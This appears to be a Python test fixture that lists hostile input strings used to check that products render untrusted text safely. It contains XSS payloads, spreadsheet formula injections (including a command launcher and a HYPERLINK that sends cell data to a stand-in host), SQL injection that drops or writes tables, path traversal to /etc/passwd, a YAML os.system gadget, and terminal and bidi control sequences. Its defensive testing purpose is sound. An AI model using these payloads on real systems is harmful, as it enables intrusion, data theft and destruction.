"""Texts that would do something wherever they are taken for more than text, each with what must not
come of it. Every product that shows or writes a text is tried with all of them.

Whatever of them is taken for markup leaves a trace that can be looked for: a script sets `HIT`, a
request goes to `ELSEWHERE`, an element has the id `ID`, and the word `ACTED` stands by itself.
"""

from dataclasses import dataclass
from enum import StrEnum

HIT = "window.__hit=1"
ELSEWHERE = "hostile.invalid"  # a host that there never is
ID = "hostile"
ACTED = "acted"  # by itself only where the marks around it were read as marks
EMOJI, SIGN = "\N{SKULL}", "skull"  # what their codes become
AT = f"http://{ELSEWHERE}"


class Never(StrEnum):
    """What must not come of a text."""

    RUNS = "a script runs"
    FETCHES = "another machine is asked for something"
    MARKS = "it is read as markup"
    WORKS_OUT = "a spreadsheet works it out"
    LEAVES = "a file is written or read outside its folder"
    CHANGES = "the database is changed"
    STEERS = "a terminal is steered"
    TURNS = "letters are turned round or unseen"


@dataclass(frozen=True, slots=True)
class Text:
    """A text, what it tries to be, and what must not come of it."""

    tries: str
    text: str
    never: Never


TEXTS = (
    Text("a script", f"<script>{HIT}</script>", Never.RUNS),
    Text("a script in capitals", f"<ScRiPt/x>{HIT}</sCrIpT>", Never.RUNS),
    Text("a script that ends another", f"</script><script id={ID}>{HIT}</script>", Never.RUNS),
    Text("a script from elsewhere", f'<script src="{AT}/a.js"></script>', Never.RUNS),
    Text("a picture that fails", f"<img id={ID} src=x onerror={HIT}>", Never.RUNS),
    Text("the end of an attribute", f'"><img id={ID} src=x onerror="{HIT}">', Never.RUNS),
    Text("an attribute of its own", f"' onfocus='{HIT}' autofocus='' id='{ID}", Never.RUNS),
    Text("a drawing that loads", f"<svg id={ID} onload={HIT}><a xlink:href=javascript:{HIT}>", Never.RUNS),
    Text("a script in a drawing", f"<svg><script>{HIT}</script><style><!--</style>", Never.RUNS),
    Text("markup behind mathematics", f"<math><mtext><img id={ID} src onerror={HIT}>", Never.RUNS),
    Text("a link that runs", f'<a id={ID} href="javascript:{HIT}">{ACTED}</a>', Never.RUNS),
    Text("a frame", f'<iframe id={ID} src="{AT}" srcdoc="<script>parent.{HIT}</script>">', Never.RUNS),
    Text("a page as an address", f"data:text/html,<script>{HIT}</script>", Never.RUNS),
    Text("entities", f"&lt;img id={ID} src=x onerror={HIT}&gt;&#60;script&#62;", Never.RUNS),
    Text("a template", f"{{{{constructor.constructor('{HIT}')()}}}} ${{{HIT}}} #{{7*7}} <%= 7*7 %>", Never.RUNS),
    Text("the end of a remark", f"--><!--><img id={ID} src onerror={HIT}>]]>", Never.RUNS),
    Text("the end of a style", f"</style></title></textarea><img id={ID} src onerror={HIT}>", Never.RUNS),
    Text("a style from elsewhere", f"<style>@import '{AT}/a.css';*{{background:url({AT}/b)}}</style>", Never.FETCHES),
    Text("another base", f'<base id={ID} href="{AT}/"><meta http-equiv=refresh content="0;{AT}">', Never.FETCHES),
    Text("a sheet from elsewhere", f"<link rel=stylesheet id={ID} href={AT}/a.css>", Never.FETCHES),
    Text("a form", f"<form id={ID} action={AT}><button>Sign in</button></form>", Never.MARKS),
    Text("a picture of markdown", f"![{ACTED}]({AT}/a.png)", Never.FETCHES),
    Text("a link of markdown", f"[{ACTED}]({AT}) <{AT}> [{ACTED}][1]", Never.MARKS),
    Text("a link of markdown that runs", f"[{ACTED}](javascript:{HIT}) [{ACTED}](data:text/html,x)", Never.RUNS),
    Text("a bare address", f"www.{ELSEWHERE} {AT}/a me@{ELSEWHERE}", Never.MARKS),
    Text("marks of markdown", f"**{ACTED}** `{ACTED}` ~~{ACTED}~~ # {ACTED}", Never.MARKS),
    Text("a table of markdown", f"a|b\n-|-\n{ACTED}|{ACTED}\n\n- {ACTED}\n> {ACTED}", Never.MARKS),
    Text("colours", f":red[{ACTED}] :blue-background[{ACTED}] :red-badge[{ACTED}] :small[{ACTED}]", Never.MARKS),
    Text("signs", f":{SIGN}: :material/{SIGN}: :streamlit: -> <- --", Never.MARKS),
    Text("a formula of LaTeX", f"$\\href{{{AT}}}{{{ACTED}}}$ $$x^2$$ \\input{{/etc/passwd}}", Never.MARKS),
    Text("marks of a chart", f'<a href="{AT}">{ACTED}</a> <b>{ACTED}</b><br>{ACTED}<extra>{ACTED}</extra>', Never.MARKS),
    Text("fields of a chart", f"%{{x}} %{{customdata[0]}} <sup>{ACTED}</sup> <i>{ACTED}</i>", Never.MARKS),
    Text("a source of typst", f'#import "@preview/x:1.0.0" #read("/etc/passwd") #link("{AT}")[{ACTED}]', Never.LEAVES),
    Text("marks of typst", f"*{ACTED}* _{ACTED}_ $ x $ @a <a> ]#panic()[", Never.MARKS),
    Text("an object of YAML", "!!python/object/apply:os.system ['touch hostile'] &a *a", Never.RUNS),
    Text("a formula", "=1+1", Never.WORKS_OUT),
    Text("a formula that starts a program", "=cmd|' /C calc'!A0", Never.WORKS_OUT),
    Text("a formula that asks elsewhere", f'=HYPERLINK("{AT}?"&A1,"{ACTED}")', Never.WORKS_OUT),
    Text("a formula by plus", "+1+1", Never.WORKS_OUT),
    Text("a formula by minus", "-2+3+cmd|' /C calc'!A0", Never.WORKS_OUT),
    Text("a formula by at", "@SUM(1+1)", Never.WORKS_OUT),
    Text("a formula behind a tab", "\t=1+1", Never.WORKS_OUT),
    Text("a formula in wide letters", "\N{FULLWIDTH EQUALS SIGN}1+1", Never.WORKS_OUT),
    Text("a formula by a wide plus", "\N{FULLWIDTH PLUS SIGN}1+1", Never.WORKS_OUT),
    Text("a formula behind a quote", '"=1+1', Never.WORKS_OUT),
    Text("a formula in the next cell", 'a,"=1+1"\n=1+1;=1+1', Never.WORKS_OUT),
    Text("SQL", "'); DROP TABLE observations; --", Never.CHANGES),
    Text("SQL in a name", '"; ATTACH \'hostile.db\'; -- $1 ? :a', Never.CHANGES),
    Text("SQL that writes", "' UNION SELECT 1; COPY (SELECT 1) TO 'hostile.csv'; --", Never.CHANGES),
    Text("a path", "../../../hostile", Never.LEAVES),
    Text("a path of Windows", "C:\\hostile\\..\\x", Never.LEAVES),
    Text("an address of a file", "file:///etc/passwd", Never.LEAVES),
    Text("a device", "CON", Never.LEAVES),
    Text("a path across the network", f"\\\\{ELSEWHERE}\\share\\a", Never.LEAVES),
    Text("a path in the middle", "a/../../hostile/\x2e\x2e/x%2e%2e%2fx", Never.LEAVES),
    Text("colours of a terminal", "\x1b[31mred\x1b[2J\x1b]0;title\x07", Never.STEERS),
    Text("a terminal steered by one letter", "\x9b2J\x90\x9d0;title\x9c", Never.STEERS),
    Text("letters taken back", "safe\x08\x08\x08\x08evil\x7f", Never.STEERS),
    Text("a line of a terminal", "a\r\nAccepted: receipt R9999\x0b\x0c\x85\u2028x", Never.STEERS),
    Text("an end before its end", f"a\0<img id={ID} src onerror={HIT}>", Never.RUNS),
    Text("letters turned round", "R0001\u202etnes ton\u202c \u2066\u2067x", Never.TURNS),
    Text("letters unseen", "a\u200bd\ufeffm\u2060i\u00adn\U000e0041", Never.TURNS),
    Text("a heap of marks", "Z" + "\u0361\u0489" * 60, Never.TURNS),
    Text("a long word", "long" * 240, Never.MARKS),
)  # fmt: skip
UNSEEN = frozenset(
    one.text for one in TEXTS if one.never in {Never.STEERS, Never.TURNS} or "\0" in one.text
)
# One line of at most 200 letters with most of what is tried in a browser, for what has one place.
LINE = (
    f"\"'><img id={ID} src=//{ELSEWHERE} onerror={HIT}><script>{HIT}</script>**{ACTED}**"
    f"![{ACTED}]({AT}) :red[{ACTED}]:{SIGN}:$x$"
)
START = f"=1+1 {LINE}"  # the same where a table of files begins a cell with it
SHORT = f"<b id={ID}>{ACTED}</b>"  # where a name has room for few letters


def lines() -> tuple[str, ...]:
    """Every text that may be written into one line and has nothing unseen in it."""
    kept = (one.text for one in TEXTS if one.text not in UNSEEN)
    return tuple(" ".join(text.split()) for text in kept)


def paragraph() -> str:
    """All of them, a line each, as a long text of a person."""
    return "\n".join(one.text for one in TEXTS if one.text not in UNSEEN and len(one.text) < 200)
